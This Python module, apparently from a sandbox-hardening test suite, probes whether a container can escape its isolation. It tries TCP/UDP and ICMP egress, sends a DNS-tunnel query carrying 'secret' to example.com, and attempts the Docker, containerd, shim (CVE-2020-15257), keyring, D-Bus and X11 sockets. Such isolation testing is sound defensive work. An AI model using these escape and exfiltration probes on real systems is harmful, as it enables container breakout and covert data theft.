"""Attempts to send anything anywhere: home network, router, metadata services, the internet, by names and by groups."""

import errno
import os
import socket
import struct
from collections.abc import Callable
from typing import Final

from gpu_sandbox.attack.trying import (
    Attempt,
    Outcome,
    Surroundings,
    Target,
    explained,
    held,
    leaked,
    read_text,
    refused,
)


GROUP: Final = "network"
ENGINE_GROUP: Final = "engine api"
_PATIENCE_S: Final = 1.0
_LOOP_S: Final = 0.2
_CUT_OFF: Final = (
    *(errno.ENETUNREACH, errno.EHOSTUNREACH, errno.EADDRNOTAVAIL, errno.EPERM, errno.EACCES),
    *(errno.EAFNOSUPPORT, errno.ENODEV, errno.ENETDOWN),
)
_QUESTION: Final = bytes.fromhex("4c4c01000001000000000000") + b"\x06secret\x07example\x03com\x00\x00\x10\x00\x01"
"""A question for text under a name that carries a secret: the usual tunnel through a name server."""


def _is_own(host: str) -> bool:
    return host.startswith("127.") or host == "::1"


def tcp(target: Target) -> Outcome:
    """Connect. That somebody said no is a leak too: the question left the sandbox."""
    try:
        with socket.create_connection((target.host, target.port), _PATIENCE_S):
            return leaked(f"{target.what} answered at {target.host}:{target.port}")
    except TimeoutError:
        return refused("nothing answered")
    except socket.gaierror:
        return refused("its name leads nowhere")
    except OSError as error:
        if error.errno in _CUT_OFF or _is_own(target.host):
            return refused(explained(error))
        return leaked(f"{target.what} was reached: {explained(error)}")


def udp(target: Target) -> Outcome:
    """Send one packet. That it left is the leak: nobody has to answer a tunnel."""
    try:
        family, _, _, _, where = socket.getaddrinfo(target.host, target.port, type=socket.SOCK_DGRAM)[0]
    except socket.gaierror:
        return refused("its name leads nowhere")
    if target.host.lower().startswith(("fe80", "ff02")):
        cards = [name for name in os.listdir("/sys/class/net") if name != "lo"]
        if not cards:
            return refused("there is no network card to send from")
        where = (target.host, target.port, 0, int(read_text(f"/sys/class/net/{cards[0]}/ifindex")))
    with socket.socket(family, socket.SOCK_DGRAM) as line:
        line.settimeout(_PATIENCE_S)
        if target.host.endswith("255"):
            line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        line.sendto(_QUESTION, where)
        line.settimeout(_LOOP_S)
        if not _is_own(target.host):
            return leaked(f"a packet left for {target.what}")
        try:
            line.recv(512)
        except OSError:
            return refused("nobody answered on the sandbox's own loop")
        return leaked(f"{target.what} answered")


def _to(target: Target) -> Attempt:
    def act(_: Surroundings) -> Outcome:
        return tcp(target) if target.kind == "tcp" else udp(target)

    group = ENGINE_GROUP if target.id.startswith("engine-") else GROUP
    return Attempt(
        target.id, group, f"Reach {target.what} at {target.host}:{target.port} by {target.kind.upper()}", act
    )


def _interfaces(_: Surroundings) -> Outcome:
    names = {line.partition(":")[0].strip() for line in read_text("/proc/net/dev").splitlines()[2:]}
    strange = sorted(names - {"lo"})
    return held(not strange, "there is the loop alone", f"found {', '.join(strange[:3])}")


def _routes(_: Surroundings) -> Outcome:
    lines = [line for line in read_text("/proc/net/route").splitlines()[1:] if line.split()[:1] != ["lo"]]
    return held(not lines, "no route leads anywhere", f"{len(lines)} routes lead out")


def _names(_: Surroundings) -> Outcome:
    found = socket.getaddrinfo("example.com", 443, type=socket.SOCK_STREAM)
    return leaked(f"a name server answered: {found[0][4][0]}")


def _resolver(_: Surroundings) -> Outcome:
    """Ask the name server that the container was given, by itself."""
    servers = [line.split()[1] for line in read_text("/etc/resolv.conf").splitlines() if line.startswith("nameserver")]
    outcome = refused("there is no name server")
    for server in servers[:2]:
        try:
            outcome = udp(Target("", "udp", server, 53, f"the name server {server}"))
        except OSError as error:
            outcome = refused(explained(error))
        if not outcome.refused:
            return outcome
    return outcome


def _ping(_: Surroundings) -> Outcome:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as line:
        line.sendto(struct.pack("!BBHHH", 8, 0, 0, 1, 1), ("8.8.8.8", 0))
    return leaked("an echo request left")


def _socket_files(folders: tuple[str, ...]) -> Callable[[Surroundings], Outcome]:
    """Return an attempt to connect to a service by a socket in the file system."""

    def act(_: Surroundings) -> Outcome:
        why: OSError = FileNotFoundError(errno.ENOENT, "")
        for path in folders:
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as line:
                    line.settimeout(_PATIENCE_S)
                    line.connect(path)
            except OSError as error:
                if not isinstance(error, FileNotFoundError):
                    why = error
            else:
                return leaked(f"{path} answered")
        raise why

    return act


def _abstract(names: tuple[str, ...]) -> Callable[[Surroundings], Outcome]:
    return _socket_files(tuple(f"\0{name}" for name in names))


def _sockets_lying_about(_: Surroundings) -> Outcome:
    found = []
    for folder in ("/run", "/var/run", "/tmp"):
        for top, _folders, names in os.walk(folder):
            found += [f"{top}/{name}" for name in names if name.endswith((".sock", ".socket", "socket"))]
    return held(not found, "there are none", f"found {', '.join(found[:3])}")


def attempts(where: Surroundings) -> tuple[Attempt, ...]:
    """Return the attempts on networks; those on targets are made for this PC."""
    return (*_FIXED, *(_to(target) for target in where.targets))


_FIXED: Final = (
    Attempt("interfaces", GROUP, "Find a network card", _interfaces),
    Attempt("routes", GROUP, "Find a way out", _routes),
    Attempt("names", GROUP, "Resolve a name", _names),
    Attempt("own-resolver", GROUP, "Tunnel through the container's own name server", _resolver),
    Attempt("ping", GROUP, "Ping a machine", _ping),
    Attempt(
        "engine-socket",
        ENGINE_GROUP,
        "Command the container engine through its socket",
        _socket_files(("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/var/run/balena.sock")),
    ),
    Attempt(
        "engine-containerd",
        ENGINE_GROUP,
        "Command containerd through its socket",
        _socket_files(
            ("/run/containerd/containerd.sock", "/run/k3s/containerd/containerd.sock", "/run/crio/crio.sock")
        ),
    ),
    Attempt(
        "engine-shim",
        ENGINE_GROUP,
        "Command containerd's shim by a name without a file (CVE-2020-15257)",
        _abstract(("/containerd-shim/moby/shim.sock", "/containerd-shim/shim.sock")),
    ),
    Attempt("engine-any-socket", ENGINE_GROUP, "Find the socket of any service of the host's", _sockets_lying_about),
    Attempt(
        "desktop-session",
        ENGINE_GROUP,
        "Reach the owner's session bus, sound or secrets",
        _socket_files(
            (
                "/run/user/1000/bus",
                "/run/dbus/system_bus_socket",
                "/run/user/1000/pulse/native",
                "/run/user/1000/keyring/control",
            )
        ),
    ),
    Attempt(
        "desktop-screen",
        ENGINE_GROUP,
        "Reach the owner's screen",
        _socket_files(("/tmp/.X11-unix/X0", "\0/tmp/.X11-unix/X0", "/run/user/1000/wayland-0", "/tmp/.X11-unix/X1")),
    ),
    Attempt(
        "gpu-daemons",
        ENGINE_GROUP,
        "Command the driver's own services",
        _socket_files(
            ("/run/nvidia-persistenced/socket", "/tmp/nvidia-mps/control", "/run/nvidia-fabricmanager/socket")
        ),
    ),
)
